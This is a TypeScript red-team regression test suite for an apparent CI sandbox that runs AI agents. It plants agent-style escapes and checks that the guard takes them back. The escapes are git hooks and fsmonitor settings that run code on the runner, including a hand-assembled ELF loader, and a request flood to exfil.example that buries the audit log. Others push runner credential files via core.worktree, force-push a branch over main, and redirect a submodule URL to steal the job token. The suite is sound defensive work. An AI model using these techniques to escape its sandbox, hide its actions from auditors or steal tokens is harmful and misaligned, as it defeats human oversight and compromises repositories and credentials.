/**
 * The third red-team pass: crossings no earlier suite listed, each found by attacking the real
 * action (a real container, real git on the runner) and kept as a regression test.
 *
 * Classes 94–96: git state the class 50/81 guard could not see after the run, so it took
 * nothing back and a later step's git ran the agent's program on the runner:
 * - 94: a hook it could not read (larger than Node reads into one buffer, or execute-only);
 * - 95: a repository at a gitlink, or under `.git/modules`, whose name is not UTF-8 (Node
 *   decoded the name, and the decoded name named nothing on disk);
 * - 96: an index whose listing is larger than the guard reads (it read no gitlink at all).
 */
import { spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { requireDocker, TEST_IMAGE } from '../support/docker.js'
import { runAction, runnerIdentity } from '../support/runner.js'
import { writeSuiteResults, type AttackResult } from './support/results.js'

const hasDocker = await requireDocker()

/**
 * A minimal x86-64 Linux executable that runs `/bin/sh -c <command>`: a hook git can execute
 * with no read permission (the kernel maps an ELF file; only a script needs its interpreter
 * to read it).
 */
function elfRunning(command: string): Buffer {
  const base = 0x400000
  const codeAt = 64 + 56
  const strings = Buffer.concat([Buffer.from('/bin/sh\0-c\0'), Buffer.from(`${command}\0`)])
  // Code first; RIP-relative addresses to the strings after it.
  const code: number[] = []
  const lea = (reg: 'rax' | 'rdi', target: number): void => {
    const op = reg === 'rax' ? [0x48, 0x8d, 0x05] : [0x48, 0x8d, 0x3d]
    const next = codeAt + code.length + 7
    const rel = target - next
    code.push(...op, rel & 0xff, (rel >> 8) & 0xff, (rel >> 16) & 0xff, (rel >> 24) & 0xff)
  }
  const codeLen = 2 + 1 + 7 + 1 + 7 + 1 + 7 + 1 + 3 + 5 + 2 + 5 + 2 + 2
  const strAt = codeAt + codeLen
  code.push(0x31, 0xd2) // xor edx, edx (envp = NULL)
  code.push(0x52) // push rdx (argv[3] = NULL)
  lea('rax', strAt + 11) // the command
  code.push(0x50)
  lea('rax', strAt + 8) // "-c"
  code.push(0x50)
  lea('rdi', strAt) // "/bin/sh"
  code.push(0x57)
  code.push(0x48, 0x89, 0xe6) // mov rsi, rsp
  code.push(0xb8, 59, 0, 0, 0, 0x0f, 0x05) // execve
  code.push(0xb8, 60, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05) // exit(0)
  if (code.length !== codeLen) throw new Error(`code is ${code.length} bytes, not ${codeLen}`)
  const size = strAt + strings.length
  const h = Buffer.alloc(codeAt)
  h.write('\x7fELF', 0, 'latin1')
  h[4] = 2 // 64-bit
  h[5] = 1 // little endian
  h[6] = 1 // version
  h.writeUInt16LE(2, 16) // ET_EXEC
  h.writeUInt16LE(0x3e, 18) // x86-64
  h.writeUInt32LE(1, 20)
  h.writeBigUInt64LE(BigInt(base + codeAt), 24) // entry
  h.writeBigUInt64LE(64n, 32) // program headers
  h.writeUInt16LE(64, 52)
  h.writeUInt16LE(56, 54)
  h.writeUInt16LE(1, 56)
  // PT_LOAD of the whole file, read + execute.
  h.writeUInt32LE(1, 64)
  h.writeUInt32LE(5, 68)
  h.writeBigUInt64LE(0n, 72)
  h.writeBigUInt64LE(BigInt(base), 80)
  h.writeBigUInt64LE(BigInt(base), 88)
  h.writeBigUInt64LE(BigInt(size), 96)
  h.writeBigUInt64LE(BigInt(size), 104)
  h.writeBigUInt64LE(0x1000n, 112)
  return Buffer.concat([h, Buffer.from(code), strings])
}

interface GitAttack {
  id: string
  cls: 94 | 95 | 96 | 99
  attack: string
  /** Shell run in the container, in the workspace; `$M` is a marker path on the runner. */
  script: (marker: string) => string
  /** What a later step of the job runs on the runner (git args). */
  later: string[]
  /** The later step runs as the runner's user (not root), as on a hosted runner. */
  asRunner?: boolean
  /** Where in the workspace the later step runs git (its `working-directory`). */
  cwd?: string
  /** Only where the planted program can run (an x86-64 executable). */
  arch?: string
}

const COMMIT = ['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-qm', 'later']

/** A repository in `$1` with one commit (the agent's, made in the sandbox). */
const REPO =
  'mkrepo() { git init -q "$1" && (cd "$1" && echo b > b && git add b && git -c user.name=a -c user.email=a@example.com commit -qm b); };'

const ATTACKS: GitAttack[] = [
  {
    id: '94.1',
    cls: 94,
    attack:
      'a `pre-commit` hook that is a shell script made sparse past 2 GiB (Node refuses to read a file that large into one buffer, so the guard skipped it); a later step runs `git commit`',
    script: () =>
      `printf '#!/bin/sh\\ntouch "%s"\\nexit 0\\n' "$M" > .git/hooks/pre-commit && python3 -c "import os; os.truncate('.git/hooks/pre-commit', 3 << 30)" && chmod +x .git/hooks/pre-commit`,
    later: [...COMMIT, '--allow-empty']
  },
  {
    id: '94.2',
    cls: 94,
    attack:
      'a `pre-commit` hook that is a small executable with mode `0111` (git runs it; the guard, as the same user, could not read it to compare); a later step runs `git commit` as the runner user',
    script: (marker) =>
      `python3 -c "import base64; open('.git/hooks/pre-commit', 'wb').write(base64.b64decode('${elfRunning(`touch '${marker}'`).toString('base64')}'))" && chmod 0111 .git/hooks/pre-commit`,
    later: [...COMMIT, '--allow-empty'],
    asRunner: true,
    arch: 'x64'
  },
  {
    id: '95.1',
    cls: 95,
    attack:
      'a repository the agent makes at `evil\\377` (a name that is not UTF-8) with `core.fsmonitor` and adds to the index as a gitlink; a later step runs `git status`, which enters it',
    script: () =>
      `${REPO} d=$(printf 'evil\\377') && mkrepo "$d" && git -C "$d" config core.fsmonitor "touch $M" && git add "$d" 2>/dev/null`,
    later: ['status', '--short']
  },
  {
    id: '95.2',
    cls: 95,
    attack:
      'a submodule repository the agent makes under `.git/modules/evil\\377` (a name that is not UTF-8) with a `post-checkout` hook, its working tree left empty; a later step runs `git submodule update --init`',
    script: () =>
      `${REPO} d=$(printf 'evil\\377') && mkrepo src && git submodule add ./src "$d" >/dev/null 2>&1 && git submodule absorbgitdirs >/dev/null 2>&1 && printf '#!/bin/sh\\ntouch "%s"\\n' "$M" > ".git/modules/$d/hooks/post-checkout" && chmod +x ".git/modules/$d/hooks/post-checkout" && rm -rf "$d" src && mkdir "$d"`,
    later: ['-c', 'protocol.file.allow=always', 'submodule', 'update', '--init']
  },
  {
    id: '95.3',
    cls: 95,
    attack:
      'a submodule repository the agent makes under `.git/modules/<a 250-character name>` with a `post-checkout` hook (a name the guard could not lengthen to move it aside), its working tree left empty; a later step runs `git submodule update --init`',
    script: () =>
      `${REPO} d=$(printf '%250s' | tr ' ' e) && mkrepo src && git submodule add ./src "$d" >/dev/null 2>&1 && git submodule absorbgitdirs >/dev/null 2>&1 && printf '#!/bin/sh\\ntouch "%s"\\n' "$M" > ".git/modules/$d/hooks/post-checkout" && chmod +x ".git/modules/$d/hooks/post-checkout" && rm -rf "$d" src && mkdir "$d"`,
    later: ['-c', 'protocol.file.allow=always', 'submodule', 'update', '--init']
  },
  {
    id: '96.1',
    cls: 96,
    attack:
      'a repository the agent makes at `evil` (with `core.fsmonitor`) and adds as a gitlink, then 270,000 index entries with long names (a listing of the index past 64 MiB, more than the guard reads); a later step runs `git status`',
    script: () =>
      `${REPO} mkrepo evil && git -C evil config core.fsmonitor "touch $M" && git add evil 2>/dev/null && b=$(echo x | git hash-object -w --stdin) && python3 -c "
import sys
pad = 'p' * 200
for i in range(270000):
    sys.stdout.write('100644 %s\\tpad/%s%d\\n' % ('$b', pad, i))
" | git update-index --index-info`,
    later: ['status', '--short']
  }
]

ATTACKS.push(
  {
    id: '99.1',
    cls: 99,
    attack:
      'the agent runs `git init` in `app/` (a directory of the checkout, whose root is the repository) and sets `core.fsmonitor` there; a later step with `working-directory: app` runs `git status`',
    script: () => 'git init -q app && git -C app config core.fsmonitor "touch $M"',
    later: ['status', '--short'],
    cwd: 'app'
  },
  {
    id: '99.2',
    cls: 99,
    attack:
      'the agent makes `app/.git` a gitfile naming a repository it made elsewhere in the workspace (`gitdir: ../.cache/r`, with a `pre-commit` hook); a later step with `working-directory: app` runs `git commit`',
    script: () =>
      `git init -q --bare .cache/r && printf '#!/bin/sh\\ntouch "%s"\\n' "$M" > .cache/r/hooks/pre-commit && chmod +x .cache/r/hooks/pre-commit && git -C .cache/r config core.bare false && echo 'gitdir: ../.cache/r' > app/.git`,
    later: [...COMMIT, '--allow-empty'],
    cwd: 'app'
  }
)

const results: AttackResult[] = []
afterAll(() => writeSuiteResults('redteam3', results))

/** Runs git as a later step would, its output discarded; resolves when it ended. */
function laterStep(
  args: string[],
  cwd: string,
  env: NodeJS.ProcessEnv,
  as?: { uid: number; gid: number }
): Promise<void> {
  return new Promise((resolve) => {
    const child = spawn('git', args, {
      cwd,
      env,
      stdio: 'ignore',
      ...(as ? { uid: as.uid, gid: as.gid } : {})
    })
    const timer = setTimeout(() => child.kill('SIGKILL'), 120_000)
    // refused, failed or taken out of use: judged by whether the program ran
    child.on('close', () => {
      clearTimeout(timer)
      resolve()
    })
    child.on('error', () => resolve())
  })
}

describe.skipIf(!hasDocker)('red team 3: git state the guard could not see', () => {
  it.each(ATTACKS)('$id $attack', async (a) => {
    if (a.arch && process.arch !== a.arch) {
      // An x86-64 executable runs nowhere else; nothing is recorded for this attack here.
      expect(process.arch).not.toBe(a.arch)
      return
    }
    const ws = mkdtempSync(join(tmpdir(), 'airlock-rt3ws-'))
    const scratch = mkdtempSync(join(tmpdir(), 'airlock-rt3later-'))
    // Where the planted program leaves its mark (writable by the later step's user).
    const marker = join(scratch, 'ran')
    const id = runnerIdentity()
    const env = {
      ...process.env,
      GIT_CONFIG_NOSYSTEM: '1',
      HOME: scratch,
      GIT_TERMINAL_PROMPT: '0',
      // The runner's git trusts the workspace the container (another uid) wrote to.
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'safe.directory',
      GIT_CONFIG_VALUE_0: '*'
    }
    try {
      // What actions/checkout with `persist-credentials: false` leaves.
      const git = (args: string[]): string =>
        execFileSync('git', args, { cwd: ws, encoding: 'utf8', env })
      git(['init', '-q', '--initial-branch=master'])
      writeFileSync(join(ws, 'a.txt'), 'a\n')
      mkdirSync(join(ws, 'app'))
      writeFileSync(join(ws, 'app', 'b.txt'), 'b\n')
      git(['add', '-A'])
      git(['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-qm', 'base'])
      if (id) {
        execFileSync('chown', ['-R', `${id.uid}:${id.gid}`, ws, scratch])
      }
      const run = await runAction({
        env: { GITHUB_WORKSPACE: ws },
        inputs: {
          image: TEST_IMAGE,
          'timeout-minutes': '5',
          command: `export M='${marker}'; git config --global --add safe.directory '*'; git config --global protocol.file.allow always; ${a.script(marker)}`
        }
      })
      const problems: string[] = []
      if (run.main.code !== 0)
        problems.push(`main failed: ${run.main.stdout.split('\n').slice(-5).join(' ')}`)
      await laterStep(a.later, a.cwd ? join(ws, a.cwd) : ws, env, a.asRunner ? id : undefined)
      if (existsSync(marker)) problems.push('the planted program ran on the runner')
      if (!/git would have run it on the runner/.test(run.main.stdout))
        problems.push('the step log does not say what was taken back')
      results.push({
        id: a.id,
        cls: a.cls,
        attack: a.attack,
        outcome:
          problems.length === 0
            ? 'moved out of git’s reach after the run and reported; nothing ran on the runner'
            : problems.join('; '),
        verdict: problems.length === 0 ? 'pass' : 'fail'
      })
      expect(problems).toEqual([])
    } finally {
      rmSync(ws, { recursive: true, force: true })
      rmSync(scratch, { recursive: true, force: true })
    }
  })
})

/**
 * Class 97: the git exec guard ran only in main, after the container ended. When a job is
 * cancelled the runner signals main (SIGINT), and kills it 10 s later (7.5 s, SIGTERM, 2.5 s);
 * main's `docker stop --time 10` waits as long for a container whose command ignores SIGTERM,
 * so main dies before it takes anything back, and post (which runs on cancellation) did not
 * either: the agent's settings and hooks stayed for a later `if: always()` step, or for the next
 * job's actions/checkout on a self-hosted runner, whose git runs them with that job's token.
 * Here main is killed outright once the agent has planted them, as the runner ends it.
 */
describe.skipIf(!hasDocker)('red team 3: main killed before the git guard ran', () => {
  it('97.1 main killed while the container ignores SIGTERM; post then runs', async () => {
    const attack =
      'the agent sets `core.fsmonitor` and plants a `pre-commit` hook, then ignores SIGTERM (`trap "" TERM`) so the container outlives `docker stop`’s grace; main is killed before the container ends (as the runner kills a cancelled job’s step after 10 s) and post runs; a later `if: always()` step runs `git status` and `git commit`'
    const ws = mkdtempSync(join(tmpdir(), 'airlock-rt3ws-'))
    const scratch = mkdtempSync(join(tmpdir(), 'airlock-rt3later-'))
    const marker = join(scratch, 'ran')
    const id = runnerIdentity()
    const env = {
      ...process.env,
      GIT_CONFIG_NOSYSTEM: '1',
      HOME: scratch,
      GIT_TERMINAL_PROMPT: '0',
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'safe.directory',
      GIT_CONFIG_VALUE_0: '*'
    }
    try {
      const git = (args: string[]): string =>
        execFileSync('git', args, { cwd: ws, encoding: 'utf8', env })
      git(['init', '-q', '--initial-branch=master'])
      writeFileSync(join(ws, 'a.txt'), 'a\n')
      git(['add', '-A'])
      git(['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-qm', 'base'])
      if (id) execFileSync('chown', ['-R', `${id.uid}:${id.gid}`, ws, scratch])
      const run = await runAction({
        env: { GITHUB_WORKSPACE: ws },
        // The marker is printed, never in the command's text (main echoes the command).
        kill: { signal: 'SIGKILL', whenStdout: /PLANTED-BY-THE-AGENT/ },
        inputs: {
          image: TEST_IMAGE,
          'timeout-minutes': '5',
          command: `git config --global --add safe.directory '*'; git config core.fsmonitor "touch '${marker}'" && printf '#!/bin/sh\\ntouch "%s"\\n' '${marker}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && trap '' TERM INT && printf 'PLANTED-BY-%s\\n' THE-AGENT && sleep 300`
        }
      })
      const problems: string[] = []
      if (run.main.signal !== 'SIGKILL') problems.push('main was not killed mid-run')
      if (run.post.code !== 0) problems.push(`post failed (code ${run.post.code})`)
      await laterStep(['status', '--short'], ws, env)
      await laterStep([...COMMIT, '--allow-empty'], ws, env)
      if (existsSync(marker)) problems.push('the planted program ran on the runner')
      if (!/git would have run it on the runner/.test(run.post.stdout))
        problems.push('the post step does not say what was taken back')
      results.push({
        id: '97.1',
        cls: 97,
        attack,
        outcome:
          problems.length === 0
            ? 'post took back the setting and moved the hook aside, and said so; nothing ran on the runner'
            : problems.join('; '),
        verdict: problems.length === 0 ? 'pass' : 'fail'
      })
      expect(problems).toEqual([])
    } finally {
      rmSync(ws, { recursive: true, force: true })
      rmSync(scratch, { recursive: true, force: true })
    }
  })
})

/**
 * Class 98: the record of the run made unreadable from inside. Every refused request is a line
 * of network.jsonl and an entry of audit.jsonl holding its URL (up to the proxy's 32 KiB of
 * request head). Main read both whole into one string: past V8's longest string (~512 MiB,
 * about 20,000 refused requests with 30 KiB URLs) the audit chain did not verify, main threw
 * while summarising the network log, and set no `audit-head`, wrote no job summary and
 * uploaded no audit artifact: what the agent tried was hidden by the volume of its trying.
 */
const FLOOD = String.raw`
const http = require('node:http');
const u = new URL(process.env.HTTP_PROXY);
const auth = 'Basic ' + Buffer.from(decodeURIComponent(u.username) + ':' + decodeURIComponent(u.password)).toString('base64');
const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
const total = Number(process.argv[1]);
const pad = 'a'.repeat(30000);
let sent = 0, done = 0, refused = 0;
function one() {
  if (sent >= total) return;
  const n = sent++;
  const req = http.request({ host: u.hostname, port: u.port, agent, method: 'GET',
    path: 'http://exfil.example/' + n + '/' + pad, headers: { host: 'exfil.example', 'proxy-authorization': auth } }, (res) => {
    if (res.statusCode === 403) refused++;
    res.resume();
    res.on('end', () => { done++; if (done === total) { console.log('FLOOD-DONE ' + refused); agent.destroy(); } else one(); });
  });
  req.on('error', () => { done++; one(); });
  req.end();
}
for (let i = 0; i < 8; i++) one();
`

describe.skipIf(!hasDocker)('red team 3: the run’s record flooded', () => {
  it('98.1 20,000 refused requests with 30 KiB URLs', async () => {
    const attack =
      'the agent sends 20,000 requests to a host not on the allowlist, each with a 30 KiB URL (network.jsonl and audit.jsonl each past 512 MiB, longer than one JavaScript string)'
    const total = 20000
    const ws = mkdtempSync(join(tmpdir(), 'airlock-rt3ws-'))
    const id = runnerIdentity()
    if (id) execFileSync('chown', ['-R', `${id.uid}:${id.gid}`, ws])
    let logDir = ''
    try {
      const run = await runAction({
        env: { GITHUB_WORKSPACE: ws },
        timeoutMs: 900_000,
        inputs: {
          image: TEST_IMAGE,
          'timeout-minutes': '12',
          command: `node -e "$FLOOD_SCRIPT" ${total}`,
          env: `FLOOD_SCRIPT=${FLOOD.replace(/\n/g, ' ')}`
        }
      })
      const problems: string[] = []
      const out = run.outputs
      logDir = out['audit-log'] ? join(out['audit-log'], '..') : ''
      if (!/FLOOD-DONE 20000/.test(run.main.stdout))
        problems.push(
          `the flood did not run whole (not every request was refused): ${run.main.stdout.slice(-600)}`
        )
      if (!/^[0-9a-f]{64}$/.test(out['audit-head'] ?? '')) problems.push('no audit-head output')
      if (out['blocked-requests'] !== String(total))
        problems.push(`blocked-requests is ${out['blocked-requests'] ?? 'not set'}`)
      if (out.conclusion !== 'success') problems.push(`conclusion ${out.conclusion ?? 'not set'}`)
      if (!run.summary.includes(`${total} refused requests`))
        problems.push('the job summary does not list the refused requests')
      if (out['audit-log']) {
        // The real CLI a reviewer runs on the artifact.
        const verify = await new Promise<number | null>((resolve) => {
          const c = spawn(
            process.execPath,
            [
              join(import.meta.dirname, '../../dist/cli/index.js'),
              'audit',
              'verify',
              out['audit-log']!,
              '--head',
              out['audit-head'] ?? ''
            ],
            { stdio: 'ignore' }
          )
          c.on('close', resolve)
        })
        if (verify !== 0) problems.push('`airlock audit verify` does not verify the logs')
      }
      results.push({
        id: '98.1',
        cls: 98,
        attack,
        outcome:
          problems.length === 0
            ? 'every request refused and counted; the audit chain verifies (network log included), audit-head set, the job summary lists them'
            : problems.join('; '),
        verdict: problems.length === 0 ? 'pass' : 'fail'
      })
      expect(problems).toEqual([])
    } finally {
      rmSync(ws, { recursive: true, force: true })
      if (logDir) rmSync(logDir, { recursive: true, force: true })
    }
  }, 900_000)
})

/**
 * Class 100: a git setting that runs nothing and routes no credential, but moves what a later
 * step's git reads: `core.worktree` (relative to `.git`) set to the directory above the
 * checkout, with `.git/info/exclude` narrowing it to RUNNER_TEMP. A later step that commits
 * and pushes what changed (`git add -A`, `git commit`, `git push`: what auto-commit actions
 * run) publishes RUNNER_TEMP's files, checkout's credentials file among them.
 */
describe.skipIf(!hasDocker)('red team 3: git reading the runner’s files for a later step', () => {
  it('100.1 core.worktree pointed above the checkout, then a later commit and push', async () => {
    const attack =
      '`git config core.worktree ../../..` (the runner’s `work` directory, above the checkout) and `.git/info/exclude` keeping only `/_temp/`; a later step runs `git add -A`, `git commit` and `git push` (as auto-commit actions do)'
    const base = mkdtempSync(join(tmpdir(), 'airlock-rt3base-'))
    const ws = join(base, 'work', 'repo', 'repo')
    const temp = join(base, 'work', '_temp')
    // The remote a later step pushes to, owned by the later step's user.
    const origin = mkdtempSync(join(tmpdir(), 'airlock-rt3origin-'))
    const scratch = mkdtempSync(join(tmpdir(), 'airlock-rt3later-'))
    const secret = `RUNNER-TEMP-SECRET-${randomBytes(8).toString('hex')}`
    const env = {
      ...process.env,
      GIT_CONFIG_NOSYSTEM: '1',
      HOME: scratch,
      GIT_TERMINAL_PROMPT: '0',
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'safe.directory',
      GIT_CONFIG_VALUE_0: '*'
    }
    try {
      mkdirSync(ws, { recursive: true })
      mkdirSync(temp, { recursive: true })
      // What actions/checkout v5+ leaves in RUNNER_TEMP with persist-credentials.
      writeFileSync(
        join(temp, `git-credentials-${randomBytes(8).toString('hex')}.config`),
        `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${secret}\n`
      )
      execFileSync('git', ['init', '-q', '--bare', origin], { env })
      const git = (args: string[]): string =>
        execFileSync('git', args, { cwd: ws, encoding: 'utf8', env })
      git(['init', '-q', '--initial-branch=main'])
      writeFileSync(join(ws, 'a.txt'), 'a\n')
      git(['add', '-A'])
      git(['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-qm', 'base'])
      git(['remote', 'add', 'origin', origin])
      const id = runnerIdentity()
      if (id) execFileSync('chown', ['-R', `${id.uid}:${id.gid}`, base, scratch])
      const run = await runAction({
        env: { GITHUB_WORKSPACE: ws, RUNNER_TEMP: temp },
        inputs: {
          image: TEST_IMAGE,
          'timeout-minutes': '3',
          command: `git config --global --add safe.directory '*'; git config core.worktree ../../.. && printf '/*\\n!/_temp/\\n' > .git/info/exclude && echo changed > a.txt`
        }
      })
      const problems: string[] = []
      if (run.main.code !== 0)
        problems.push(`main failed: ${run.main.stdout.split('\n').slice(-5).join(' ')}`)
      // A later step: commit what changed and push it.
      await laterStep(['add', '-A'], ws, env)
      await laterStep([...COMMIT.slice(0, -2), '-qm', 'agent changes'], ws, env)
      await laterStep(['push', '-q', 'origin', 'HEAD:main'], ws, env)
      let pushed = ''
      try {
        pushed = execFileSync('git', ['--git-dir', origin, 'grep', '-I', secret, 'main'], {
          encoding: 'utf8',
          env
        })
      } catch {
        // not found: grep exits 1
      }
      if (pushed.includes(secret))
        problems.push('the later push published a file of RUNNER_TEMP (checkout’s credentials)')
      if (!/removed core\.worktree, which the run set/.test(run.main.stdout))
        problems.push('the step log does not say what was taken back')
      results.push({
        id: '100.1',
        cls: 100,
        attack,
        outcome:
          problems.length === 0
            ? 'taken back after the run and reported; the later push held the workspace’s change only'
            : problems.join('; '),
        verdict: problems.length === 0 ? 'pass' : 'fail'
      })
      expect(problems).toEqual([])
    } finally {
      rmSync(base, { recursive: true, force: true })
      rmSync(origin, { recursive: true, force: true })
      rmSync(scratch, { recursive: true, force: true })
    }
  })
})

/**
 * Class 101: git settings that decide which refs a later step's plain `git push` writes, with
 * its token, to the same remote: `remote.origin.push` (a refspec), `remote.<name>.mirror`,
 * `branch.<name>.merge` with `push.default`. A later step that commits on its branch and runs
 * `git push` force-pushed the agent's own branch onto `main` instead.
 */
describe.skipIf(!hasDocker)('red team 3: what a later plain git push writes', () => {
  it('101.1 remote.origin.push set to +refs/heads/evil:refs/heads/main', async () => {
    const attack =
      'the agent commits to a branch `evil` of its own and sets `remote.origin.push` to `+refs/heads/evil:refs/heads/main`; a later step commits on the checked-out branch (`feature`, tracking `origin/feature`) and runs a plain `git push`'
    const ws = mkdtempSync(join(tmpdir(), 'airlock-rt3ws-'))
    const origin = mkdtempSync(join(tmpdir(), 'airlock-rt3origin-'))
    const scratch = mkdtempSync(join(tmpdir(), 'airlock-rt3later-'))
    const env = {
      ...process.env,
      GIT_CONFIG_NOSYSTEM: '1',
      HOME: scratch,
      GIT_TERMINAL_PROMPT: '0',
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'safe.directory',
      GIT_CONFIG_VALUE_0: '*'
    }
    try {
      execFileSync('git', ['init', '-q', '--bare', origin], { env })
      const git = (args: string[]): string =>
        execFileSync('git', args, { cwd: ws, encoding: 'utf8', env })
      git(['init', '-q', '--initial-branch=main'])
      writeFileSync(join(ws, 'a.txt'), 'a\n')
      git(['add', '-A'])
      git(['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-qm', 'base'])
      git(['remote', 'add', 'origin', origin])
      git(['push', '-q', 'origin', 'HEAD:main', 'HEAD:feature'])
      // As actions/checkout leaves a branch checkout: tracking its remote branch.
      git(['fetch', '-q', 'origin'])
      git(['checkout', '-q', '-B', 'feature', 'origin/feature'])
      const mainBefore = execFileSync('git', ['--git-dir', origin, 'rev-parse', 'main'], {
        encoding: 'utf8',
        env
      }).trim()
      const id = runnerIdentity()
      if (id) execFileSync('chown', ['-R', `${id.uid}:${id.gid}`, ws, scratch])
      const run = await runAction({
        env: { GITHUB_WORKSPACE: ws },
        inputs: {
          image: TEST_IMAGE,
          'timeout-minutes': '3',
          command: `git config --global --add safe.directory '*'; git branch evil && git checkout -q evil && echo EVIL > a.txt && git -c user.name=a -c user.email=a@example.com commit -qam evil && git checkout -q feature && git config remote.origin.push +refs/heads/evil:refs/heads/main && echo changed > a.txt`
        }
      })
      const problems: string[] = []
      if (run.main.code !== 0)
        problems.push(`main failed: ${run.main.stdout.split('\n').slice(-5).join(' ')}`)
      await laterStep([...COMMIT.slice(0, -2), '-qam', 'agent changes'], ws, env)
      await laterStep(['push', '-q'], ws, env)
      const mainAfter = execFileSync('git', ['--git-dir', origin, 'rev-parse', 'main'], {
        encoding: 'utf8',
        env
      }).trim()
      if (mainAfter !== mainBefore)
        problems.push('the later push overwrote main with the agent’s branch')
      if (!/removed remote\.origin\.push, which the run set/.test(run.main.stdout))
        problems.push('the step log does not say what was taken back')
      results.push({
        id: '101.1',
        cls: 101,
        attack,
        outcome:
          problems.length === 0
            ? 'taken back after the run and reported; main was not written'
            : problems.join('; '),
        verdict: problems.length === 0 ? 'pass' : 'fail'
      })
      expect(problems).toEqual([])
    } finally {
      rmSync(ws, { recursive: true, force: true })
      rmSync(origin, { recursive: true, force: true })
      rmSync(scratch, { recursive: true, force: true })
    }
  })
})

/**
 * Class 102: `submodule.<name>.url` in `.git/config`, which git copies there on `submodule
 * init` and never overwrites. A later step's `git submodule update --init` clones from it,
 * and hands the credentials its askpass or helper gives to wherever it points.
 */
describe.skipIf(!hasDocker)('red team 3: a submodule URL in the repository’s config', () => {
  it('102.1 submodule.<name>.url pointed at the attacker', async () => {
    const attack =
      'the agent adds a submodule (a gitlink and a `.gitmodules` entry naming github.com) and sets `submodule.lib.url` in `.git/config` to its own server; a later step runs `git submodule update --init` with `GIT_ASKPASS` handing out the job token'
    const token = `ghs_Redteam3JobToken${randomBytes(12).toString('hex')}`
    const received: string[] = []
    const server = http.createServer((req, res) => {
      const auth = req.headers.authorization ?? ''
      received.push(/^basic /i.test(auth) ? Buffer.from(auth.slice(6), 'base64').toString() : auth)
      res.writeHead(auth ? 403 : 401, { 'www-authenticate': 'Basic realm="GitHub"' })
      res.end()
    })
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
    const port = (server.address() as AddressInfo).port
    const ws = mkdtempSync(join(tmpdir(), 'airlock-rt3ws-'))
    const scratch = mkdtempSync(join(tmpdir(), 'airlock-rt3later-'))
    const askpass = join(scratch, 'askpass.sh')
    writeFileSync(
      askpass,
      `#!/bin/sh\ncase "$1" in Username*) echo x-access-token;; *) echo ${token};; esac\n`,
      { mode: 0o755 }
    )
    const env = {
      ...process.env,
      GIT_CONFIG_NOSYSTEM: '1',
      HOME: scratch,
      GIT_TERMINAL_PROMPT: '0',
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'safe.directory',
      GIT_CONFIG_VALUE_0: '*'
    }
    try {
      const git = (args: string[]): string =>
        execFileSync('git', args, { cwd: ws, encoding: 'utf8', env })
      git(['init', '-q', '--initial-branch=main'])
      writeFileSync(join(ws, 'a.txt'), 'a\n')
      git(['add', '-A'])
      git(['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-qm', 'base'])
      const id = runnerIdentity()
      if (id) execFileSync('chown', ['-R', `${id.uid}:${id.gid}`, ws, scratch])
      const run = await runAction({
        env: { GITHUB_WORKSPACE: ws },
        inputs: {
          image: TEST_IMAGE,
          'timeout-minutes': '3',
          command: `git config --global --add safe.directory '*'; printf '[submodule "lib"]\\n\\tpath = lib\\n\\turl = https://github.com/octo/lib\\n' > .gitmodules && git update-index --add --cacheinfo 160000,${'1'.repeat(40)},lib && git config submodule.lib.url http://127.0.0.1:${port}/octo/lib`
        }
      })
      const problems: string[] = []
      if (run.main.code !== 0)
        problems.push(`main failed: ${run.main.stdout.split('\n').slice(-5).join(' ')}`)
      // Not the synchronous git: the attacker's server lives in this process and must answer.
      await laterStep(['submodule', 'update', '--init'], ws, { ...env, GIT_ASKPASS: askpass })
      if (received.some((r) => r.includes(token)))
        problems.push("the later step's job token reached the attacker's server")
      if (!/removed submodule\.lib\.url, which the run set/.test(run.main.stdout))
        problems.push('the step log does not say what was taken back')
      results.push({
        id: '102.1',
        cls: 102,
        attack,
        outcome:
          problems.length === 0
            ? 'taken back after the run and reported; the later step’s token went nowhere the agent chose'
            : problems.join('; '),
        verdict: problems.length === 0 ? 'pass' : 'fail'
      })
      expect(problems).toEqual([])
    } finally {
      server.close()
      rmSync(ws, { recursive: true, force: true })
      rmSync(scratch, { recursive: true, force: true })
    }
  })
})
